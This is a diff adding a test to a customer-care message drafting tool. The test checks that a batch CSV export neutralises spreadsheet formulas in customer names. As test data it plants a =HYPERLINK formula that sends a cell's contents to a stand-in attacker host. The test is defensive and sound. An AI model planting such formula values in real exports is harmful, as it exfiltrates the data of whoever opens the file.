@@ -440,3 +440,14 @@ def test_an_offer_must_be_valid_on_the_occasions_day_not_today(tables):
     d = draft_care_message(tables, "C001", "birthday", channel="wechat", offers=short)
     assert d.offer_id is None and "9折" not in d.text
     assert any("BDAY26 expired" in w for w in d.warnings)
+
+
+def test_a_batch_csv_cannot_run_a_formula_from_customer_data(tmp_path, tables):
+    """A name such as =HYPERLINK(...) is written with a leading apostrophe, so Excel shows it as text."""
+    t = {k: (v.copy() if isinstance(v, pd.DataFrame) else v) for k, v in tables.items()}
+    ids = t["rfm"].loc[t["rfm"]["segment"] == "At Risk", "customer_id"].astype(str)
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    t["customers"].loc[t["customers"]["customer_id"].astype(str) == ids.iloc[0], "name"] = evil
+    df = pd.read_csv(draft_batch(t, "At Risk", "winback", out_csv=tmp_path / "f.csv"), encoding="utf-8-sig", dtype=str)
+    names = df["name"].dropna().tolist()
+    assert "'" + evil in names and not any(str(n).startswith(("=", "+", "-", "@")) for n in names)
